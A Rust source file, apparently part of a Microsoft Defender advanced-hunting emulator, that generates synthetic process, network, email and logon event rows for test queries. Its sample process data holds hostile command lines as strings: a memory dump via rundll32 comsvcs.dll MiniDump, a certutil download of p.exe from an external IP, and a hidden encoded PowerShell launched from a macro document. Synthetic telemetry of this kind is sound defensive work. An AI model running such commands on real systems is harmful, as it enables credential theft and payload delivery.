//! The advanced hunting tables the emulator generates, with the columns Microsoft documents for
//! them (a subset of each): `DeviceProcessEvents`, `DeviceNetworkEvents`, `EmailEvents`,
//! `IdentityLogonEvents`.
//!
//! A row is computed from (seed, table, row index) when a query reads it; nothing is stored.
//! Row `i` of a table of `n` rows has its `Timestamp` in the `i`-th of `n` equal slices of the
//! tenant's span, so rows are in time order and a time window is an index range.

use std::ops::Range;

use uuid::Builder;

use crate::defender::config::HuntingConfig;
use crate::defender::data::mix;
use crate::defender::time::{self, TICKS_PER_SECOND};

/// A column's type, as the answer's `schema` names it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    DateTime,
    String,
    Int32,
    Int64,
}

impl Kind {
    /// The `type` of the answer's schema.
    pub(crate) fn schema_name(self) -> &'static str {
        match self {
            Kind::DateTime => "DateTime",
            Kind::String => "String",
            Kind::Int32 => "Int32",
            Kind::Int64 => "Int64",
        }
    }

    /// KQL's name of the type, for messages.
    pub(crate) fn kql_name(self) -> &'static str {
        match self {
            Kind::DateTime => "datetime",
            Kind::String => "string",
            Kind::Int32 => "int",
            Kind::Int64 => "long",
        }
    }

    pub(crate) fn is_number(self) -> bool {
        matches!(self, Kind::Int32 | Kind::Int64)
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Column {
    pub name: &'static str,
    pub kind: Kind,
}

const fn col(name: &'static str, kind: Kind) -> Column {
    Column { name, kind }
}

/// One value of a row.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Cell {
    Text(String),
    Number(i64),
    /// 100 ns ticks since the Unix epoch.
    Time(i64),
}

impl Cell {
    /// The JSON value of the answer: times with all seven fraction digits, as Kusto writes them.
    pub(crate) fn to_json(&self) -> serde_json::Value {
        match self {
            Cell::Text(text) => serde_json::Value::String(text.clone()),
            Cell::Number(number) => serde_json::Value::from(*number),
            Cell::Time(ticks) => serde_json::Value::String(format_time(*ticks)),
        }
    }
}

/// `2024-03-26T09:39:50.7688641Z`.
pub(crate) fn format_time(ticks: i64) -> String {
    let seconds = ticks.div_euclid(TICKS_PER_SECOND);
    let fraction = ticks.rem_euclid(TICKS_PER_SECOND);
    let date = chrono::DateTime::from_timestamp(seconds, 0).unwrap_or_default();
    format!("{}.{fraction:07}Z", date.format("%Y-%m-%dT%H:%M:%S"))
}

/// A generated table.
pub(crate) struct Table {
    pub name: &'static str,
    pub columns: &'static [Column],
    /// Keeps the tables' hash streams apart.
    stream: u64,
    /// Every column of row `index` but `Timestamp` (the first column), in column order.
    generate: fn(&Row<'_>) -> Vec<Cell>,
}

impl std::fmt::Debug for Table {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name)
    }
}

const DEVICE_PROCESS_EVENTS: [Column; 17] = [
    col("Timestamp", Kind::DateTime),
    col("DeviceId", Kind::String),
    col("DeviceName", Kind::String),
    col("ActionType", Kind::String),
    col("FileName", Kind::String),
    col("FolderPath", Kind::String),
    col("SHA1", Kind::String),
    col("SHA256", Kind::String),
    col("ProcessId", Kind::Int64),
    col("ProcessCommandLine", Kind::String),
    col("AccountDomain", Kind::String),
    col("AccountName", Kind::String),
    col("AccountUpn", Kind::String),
    col("InitiatingProcessFileName", Kind::String),
    col("InitiatingProcessCommandLine", Kind::String),
    col("InitiatingProcessId", Kind::Int64),
    col("ReportId", Kind::Int64),
];

const DEVICE_NETWORK_EVENTS: [Column; 13] = [
    col("Timestamp", Kind::DateTime),
    col("DeviceId", Kind::String),
    col("DeviceName", Kind::String),
    col("ActionType", Kind::String),
    col("RemoteIP", Kind::String),
    col("RemotePort", Kind::Int32),
    col("RemoteUrl", Kind::String),
    col("LocalIP", Kind::String),
    col("LocalPort", Kind::Int32),
    col("Protocol", Kind::String),
    col("InitiatingProcessFileName", Kind::String),
    col("InitiatingProcessAccountName", Kind::String),
    col("ReportId", Kind::Int64),
];

const EMAIL_EVENTS: [Column; 14] = [
    col("Timestamp", Kind::DateTime),
    col("NetworkMessageId", Kind::String),
    col("InternetMessageId", Kind::String),
    col("SenderFromAddress", Kind::String),
    col("SenderDisplayName", Kind::String),
    col("RecipientEmailAddress", Kind::String),
    col("Subject", Kind::String),
    col("EmailDirection", Kind::String),
    col("DeliveryAction", Kind::String),
    col("DeliveryLocation", Kind::String),
    col("ThreatTypes", Kind::String),
    col("AttachmentCount", Kind::Int32),
    col("UrlCount", Kind::Int32),
    col("ReportId", Kind::String),
];

const IDENTITY_LOGON_EVENTS: [Column; 14] = [
    col("Timestamp", Kind::DateTime),
    col("ActionType", Kind::String),
    col("LogonType", Kind::String),
    col("Protocol", Kind::String),
    col("Application", Kind::String),
    col("AccountName", Kind::String),
    col("AccountDomain", Kind::String),
    col("AccountUpn", Kind::String),
    col("AccountObjectId", Kind::String),
    col("DeviceName", Kind::String),
    col("IPAddress", Kind::String),
    col("Location", Kind::String),
    col("FailureReason", Kind::String),
    col("ReportId", Kind::String),
];

pub(crate) const TABLES: [Table; 4] = [
    Table {
        name: "DeviceProcessEvents",
        columns: &DEVICE_PROCESS_EVENTS,
        stream: 101,
        generate: device_process_event,
    },
    Table {
        name: "DeviceNetworkEvents",
        columns: &DEVICE_NETWORK_EVENTS,
        stream: 102,
        generate: device_network_event,
    },
    Table {
        name: "EmailEvents",
        columns: &EMAIL_EVENTS,
        stream: 103,
        generate: email_event,
    },
    Table {
        name: "IdentityLogonEvents",
        columns: &IDENTITY_LOGON_EVENTS,
        stream: 104,
        generate: identity_logon_event,
    },
];

/// Tables of Microsoft's advanced hunting schema the emulator does not generate: queries on
/// them are refused with a message saying so (not as an unknown name).
pub(crate) const OTHER_TABLES: [&str; 22] = [
    "AlertEvidence",
    "AlertInfo",
    "BehaviorEntities",
    "BehaviorInfo",
    "CloudAppEvents",
    "DeviceEvents",
    "DeviceFileCertificateInfo",
    "DeviceFileEvents",
    "DeviceImageLoadEvents",
    "DeviceInfo",
    "DeviceLogonEvents",
    "DeviceNetworkInfo",
    "DeviceRegistryEvents",
    "EmailAttachmentInfo",
    "EmailPostDeliveryEvents",
    "EmailUrlInfo",
    "ExposureGraphEdges",
    "ExposureGraphNodes",
    "IdentityDirectoryEvents",
    "IdentityInfo",
    "IdentityQueryEvents",
    "UrlClickEvents",
];

pub(crate) fn table(name: &str) -> Option<&'static Table> {
    TABLES.iter().find(|table| table.name == name)
}

/// What a tenant's rows are made from: a copy taken under the tenant's lock, so that a query
/// runs without holding it.
#[derive(Clone, Debug)]
pub(crate) struct Source {
    pub seed: u64,
    pub domain: String,
    pub config: HuntingConfig,
    /// End of the span, in ticks.
    pub end: i64,
}

impl Source {
    pub(crate) fn new(seed: u64, domain: String, config: HuntingConfig) -> Source {
        let end = config.end.map_or(0, time::from_datetime);
        Source {
            seed,
            domain,
            config,
            end,
        }
    }

    pub(crate) fn rows(&self, table: &Table) -> u64 {
        u64::from(self.config.rows(table.name))
    }

    fn span(&self) -> i64 {
        i64::from(self.config.span_days) * 86_400 * TICKS_PER_SECOND
    }

    fn slice(&self, table: &Table) -> i64 {
        let rows = i64::try_from(self.rows(table)).unwrap_or(i64::MAX).max(1);
        (self.span() / rows).max(1)
    }

    /// The `Timestamp` of row `index`: inside its slice of the span, so rows are in order.
    pub(crate) fn timestamp(&self, table: &Table, index: u64) -> i64 {
        let slice = self.slice(table);
        let jitter = (mix(self.seed, table.stream << 8, index) % slice as u64) as i64;
        self.end - self.span() + i64::try_from(index).unwrap_or(i64::MAX) * slice + jitter
    }

    /// Rows whose `Timestamp` is in `[lo, hi]`.
    pub(crate) fn index_range(&self, table: &Table, lo: i64, hi: i64) -> Range<u64> {
        let n = self.rows(table);
        let first = partition_point(n, |i| self.timestamp(table, i) < lo);
        let end = partition_point(n, |i| self.timestamp(table, i) <= hi);
        first..end.max(first)
    }

    /// Every cell of row `index`, in column order.
    pub(crate) fn row(&self, table: &Table, index: u64) -> Vec<Cell> {
        let row = Row {
            source: self,
            stream: table.stream,
            index,
        };
        let mut cells = Vec::with_capacity(table.columns.len());
        cells.push(Cell::Time(self.timestamp(table, index)));
        cells.extend((table.generate)(&row));
        cells
    }
}

fn partition_point(n: u64, before: impl Fn(u64) -> bool) -> u64 {
    let (mut lo, mut hi) = (0u64, n);
    while lo < hi {
        let mid = lo + (hi - lo) / 2;
        if before(mid) {
            lo = mid + 1;
        } else {
            hi = mid;
        }
    }
    lo
}

/// One row being generated: a hash per property.
struct Row<'a> {
    source: &'a Source,
    stream: u64,
    index: u64,
}

impl Row<'_> {
    fn hash(&self, property: u64) -> u64 {
        mix(self.source.seed, (self.stream << 8) | property, self.index)
    }

    fn pick<T: Copy>(&self, property: u64, values: &[T]) -> T {
        values[(self.hash(property) % values.len() as u64) as usize]
    }

    fn domain(&self) -> &str {
        &self.source.domain
    }

    fn device(&self) -> Device {
        Device::of(self.source, self.hash(1) % DEVICES)
    }

    fn user(&self) -> User {
        User::of(self.source, self.hash(2) % USERS.len() as u64)
    }
}

const DEVICES: u64 = 200;

struct Device {
    id: String,
    name: String,
    ip: String,
}

impl Device {
    fn of(source: &Source, number: u64) -> Device {
        let prefix = ["fin", "hr", "eng", "ops"][(number % 4) as usize];
        Device {
            id: hex(source.seed, 1, number, 40),
            name: format!("{prefix}-wks-{number:04}.corp.{}", source.domain),
            ip: format!("10.40.{}.{}", number / 200, number % 200 + 20),
        }
    }
}

const USERS: [(&str, &str); 8] = [
    ("mreyes", "marisol.reyes"),
    ("tchen", "theo.chen"),
    ("dkim", "dana.kim"),
    ("apatel", "arjun.patel"),
    ("lnguyen", "linh.nguyen"),
    ("sgarcia", "sofia.garcia"),
    ("bwilson", "ben.wilson"),
    ("eokoye", "ebere.okoye"),
];

struct User {
    account: &'static str,
    upn: String,
    object_id: String,
}

impl User {
    fn of(source: &Source, number: u64) -> User {
        let (account, local) = USERS[number as usize];
        User {
            account,
            upn: format!("{local}@{}", source.domain),
            object_id: guid(source.seed, 2, number),
        }
    }
}

/// Lower-case hex of `len` characters from (seed, stream, key).
fn hex(seed: u64, stream: u64, key: u64, len: usize) -> String {
    let mut text = String::with_capacity(len + 16);
    let mut round = 0u64;
    while text.len() < len {
        text.push_str(&format!(
            "{:016x}",
            mix(
                seed,
                0x4e00 | stream,
                key.wrapping_mul(31).wrapping_add(round)
            )
        ));
        round += 1;
    }
    text.truncate(len);
    text
}

fn guid(seed: u64, stream: u64, key: u64) -> String {
    let mut bytes = [0u8; 16];
    bytes[..8].copy_from_slice(&mix(seed, 0x4f00 | stream, key).to_le_bytes());
    bytes[8..].copy_from_slice(&mix(seed, 0x4f00 | stream, key ^ (1 << 63)).to_le_bytes());
    Builder::from_random_bytes(bytes).into_uuid().to_string()
}

/// (FileName, FolderPath, ProcessCommandLine, InitiatingProcessFileName,
/// InitiatingProcessCommandLine)
const PROCESSES: [(&str, &str, &str, &str, &str); 8] = [
    (
        "cmd.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe /c whoami /all",
        "powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass",
    ),
    (
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA",
        "WINWORD.EXE",
        "\"WINWORD.EXE\" /n \"C:\\Users\\Public\\Documents\\invoice.docm\"",
    ),
    (
        "conhost.exe",
        "C:\\Windows\\System32\\conhost.exe",
        "conhost.exe 0xffffffff -ForceV1",
        "powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass",
    ),
    (
        "rundll32.exe",
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 772 C:\\ProgramData\\l.dmp full",
        "cmd.exe",
        "cmd.exe /c",
    ),
    (
        "notepad.exe",
        "C:\\Windows\\System32\\notepad.exe",
        "notepad.exe C:\\Users\\Public\\notes.txt",
        "explorer.exe",
        "C:\\Windows\\Explorer.EXE",
    ),
    (
        "svchost.exe",
        "C:\\Windows\\System32\\svchost.exe",
        "svchost.exe -k netsvcs -p -s Schedule",
        "services.exe",
        "C:\\Windows\\system32\\services.exe",
    ),
    (
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "\"msedge.exe\" --type=renderer --lang=en-US",
        "explorer.exe",
        "C:\\Windows\\Explorer.EXE",
    ),
    (
        "certutil.exe",
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe",
        "cmd.exe",
        "cmd.exe /c",
    ),
];

fn device_process_event(row: &Row<'_>) -> Vec<Cell> {
    let device = row.device();
    let user = row.user();
    let process = (row.hash(3) % PROCESSES.len() as u64) as usize;
    let (file, folder, command, parent, parent_command) = PROCESSES[process];
    let seed = row.source.seed;
    vec![
        Cell::Text(device.id),
        Cell::Text(device.name),
        Cell::Text("ProcessCreated".to_owned()),
        Cell::Text(file.to_owned()),
        Cell::Text(folder.to_owned()),
        Cell::Text(hex(seed, 3, process as u64, 40)),
        Cell::Text(hex(seed, 4, process as u64, 64)),
        Cell::Number(1000 + (row.hash(4) % 60_000) as i64),
        Cell::Text(command.to_owned()),
        Cell::Text("corp".to_owned()),
        Cell::Text(user.account.to_owned()),
        Cell::Text(user.upn),
        Cell::Text(parent.to_owned()),
        Cell::Text(parent_command.to_owned()),
        Cell::Number(1000 + (row.hash(5) % 60_000) as i64),
        Cell::Number(100_000 + row.index as i64),
    ]
}

/// (RemoteUrl, RemoteIP, RemotePort)
const REMOTES: [(&str, &str, i64); 6] = [
    ("login.microsoftonline.com", "20.190.151.7", 443),
    ("telemetry-sync.example", "198.51.100.23", 443),
    ("www.bing.com", "204.79.197.200", 443),
    ("", "10.40.0.10", 445),
    ("acme-invoices.example", "203.0.113.80", 80),
    ("graph.microsoft.com", "20.190.151.68", 443),
];

fn device_network_event(row: &Row<'_>) -> Vec<Cell> {
    let device = row.device();
    let user = row.user();
    let (url, ip, port) = row.pick(3, &REMOTES);
    let action = match row.hash(4) % 10 {
        0..=5 => "ConnectionSuccess",
        6 | 7 => "ConnectionFailed",
        8 => "InboundConnectionAccepted",
        _ => "ConnectionRequest",
    };
    let process = row.pick(
        5,
        &[
            "msedge.exe",
            "svchost.exe",
            "powershell.exe",
            "OneDrive.exe",
            "ms-teams.exe",
        ],
    );
    vec![
        Cell::Text(device.id),
        Cell::Text(device.name),
        Cell::Text(action.to_owned()),
        Cell::Text(ip.to_owned()),
        Cell::Number(port),
        Cell::Text(url.to_owned()),
        Cell::Text(device.ip),
        Cell::Number(49_152 + (row.hash(6) % 16_000) as i64),
        Cell::Text(
            if row.hash(7).is_multiple_of(10) {
                "Udp"
            } else {
                "Tcp"
            }
            .to_owned(),
        ),
        Cell::Text(process.to_owned()),
        Cell::Text(if process == "svchost.exe" {
            "system".to_owned()
        } else {
            user.account.to_owned()
        }),
        Cell::Number(200_000 + row.index as i64),
    ]
}

/// (sender, display name, subject, threat; `{domain}` is the tenant's domain)
const SENDERS: [(&str, &str, &str, &str); 6] = [
    (
        "billing@acme-invoices.example",
        "Acme Billing",
        "Q3 invoice ready for review",
        "Phish",
    ),
    (
        "it-support@{domain}",
        "IT Support",
        "Scheduled maintenance this weekend",
        "",
    ),
    (
        "newsletter@contoso-news.example",
        "Contoso News",
        "This week in security",
        "",
    ),
    (
        "hr@{domain}",
        "Human Resources",
        "Benefits enrollment opens",
        "",
    ),
    (
        "no-reply@fabrikam-shipping.example",
        "Fabrikam Shipping",
        "Your parcel could not be delivered",
        "Malware",
    ),
    (
        "ceo.office@{domain}.example",
        "Office of the CEO",
        "Urgent wire transfer",
        "Phish",
    ),
];

fn email_event(row: &Row<'_>) -> Vec<Cell> {
    let user = row.user();
    let (sender, display, subject, threat) = row.pick(3, &SENDERS);
    let sender = sender.replace("{domain}", row.domain());
    let internal = sender.ends_with(&format!("@{}", row.domain()));
    let (action, location) = match (threat, row.hash(4) % 3) {
        ("", _) => ("Delivered", "Inbox/folder"),
        (_, 0) => ("Junked", "Junk folder"),
        _ => ("Blocked", "Quarantine"),
    };
    let sender_domain = sender.split('@').nth(1).unwrap_or_default().to_owned();
    let seed = row.source.seed;
    vec![
        Cell::Text(guid(seed, 5, row.index)),
        Cell::Text(format!("<{}@{sender_domain}>", hex(seed, 6, row.index, 24))),
        Cell::Text(sender),
        Cell::Text(display.to_owned()),
        Cell::Text(user.upn),
        Cell::Text(subject.to_owned()),
        Cell::Text(if internal { "Intra-org" } else { "Inbound" }.to_owned()),
        Cell::Text(action.to_owned()),
        Cell::Text(location.to_owned()),
        Cell::Text(threat.to_owned()),
        Cell::Number((row.hash(5) % 3) as i64),
        Cell::Number((row.hash(6) % 4) as i64),
        Cell::Text(guid(seed, 7, row.index)),
    ]
}

fn identity_logon_event(row: &Row<'_>) -> Vec<Cell> {
    let device = row.device();
    let user = row.user();
    let failed = row.hash(3) % 100 < 15;
    let seed = row.source.seed;
    vec![
        Cell::Text(
            if failed {
                "LogonFailed"
            } else {
                "LogonSuccess"
            }
            .to_owned(),
        ),
        Cell::Text(
            row.pick(
                4,
                &["Resource access", "Interactive", "Credentials validation"],
            )
            .to_owned(),
        ),
        Cell::Text(row.pick(5, &["Kerberos", "Ntlm", "LDAP"]).to_owned()),
        Cell::Text("Active Directory".to_owned()),
        Cell::Text(user.account.to_owned()),
        Cell::Text(format!("corp.{}", row.domain())),
        Cell::Text(user.upn),
        Cell::Text(user.object_id),
        Cell::Text(device.name),
        Cell::Text(device.ip),
        Cell::Text(row.pick(6, &["NL", "US", "DE", "GB"]).to_owned()),
        Cell::Text(if failed {
            row.pick(7, &["WrongPassword", "AccountDisabled", "AccountLocked"])
                .to_owned()
        } else {
            String::new()
        }),
        Cell::Text(guid(seed, 8, row.index)),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn source(rows: u32) -> Source {
        Source::new(
            7,
            "contoso.com".into(),
            HuntingConfig {
                rows_per_table: rows,
                end: Some("2026-01-08T00:00:00Z".parse().unwrap()),
                ..HuntingConfig::default()
            },
        )
    }

    #[test]
    fn rows_fit_their_columns_and_are_in_time_order() {
        let source = source(500);
        for table in &TABLES {
            let mut last = i64::MIN;
            for index in 0..500 {
                let row = source.row(table, index);
                assert_eq!(row.len(), table.columns.len(), "{}", table.name);
                for (cell, column) in row.iter().zip(table.columns) {
                    let fits = match (cell, column.kind) {
                        (Cell::Time(_), Kind::DateTime) | (Cell::Text(_), Kind::String) => true,
                        (Cell::Number(_), kind) => kind.is_number(),
                        _ => false,
                    };
                    assert!(fits, "{}.{}: {cell:?}", table.name, column.name);
                }
                let Cell::Time(at) = row[0] else {
                    panic!("Timestamp first")
                };
                assert!(at > last);
                last = at;
                assert_eq!(source.row(table, index), row, "deterministic");
            }
        }
    }

    #[test]
    fn a_time_window_is_an_index_range() {
        let source = source(1000);
        let table = table("EmailEvents").unwrap();
        let lo = source.timestamp(table, 100);
        let hi = source.timestamp(table, 299);
        assert_eq!(source.index_range(table, lo, hi), 100..300);
        assert_eq!(source.index_range(table, hi, lo), 299..299);
        assert_eq!(source.index_range(table, i64::MIN, i64::MAX), 0..1000);
        assert!(
            source
                .index_range(table, source.end + 1, i64::MAX)
                .is_empty()
        );
    }

    #[test]
    fn times_have_seven_fraction_digits() {
        assert_eq!(
            format_time(17_000_000_000_000_001),
            "2023-11-14T22:13:20.0000001Z"
        );
    }
}
